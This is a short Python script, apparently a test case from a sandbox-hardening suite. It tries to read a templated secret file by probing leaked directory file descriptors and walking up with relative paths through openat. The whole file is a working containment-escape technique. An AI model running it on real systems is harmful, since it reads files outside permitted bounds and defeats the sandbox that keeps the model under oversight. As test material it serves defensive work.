# Leaves by a folder's descriptor, should one have been left open.
# control: none (it depends on such a descriptor; see inherited_descriptor)
import os

for descriptor in range(3, 64):
    for depth in range(12):
        try:
            file = os.open("../" * depth + "@SECRET_FILE@".lstrip("/"), os.O_RDONLY, dir_fd=descriptor)
        except OSError:
            continue
        print(os.read(file, 100).decode())
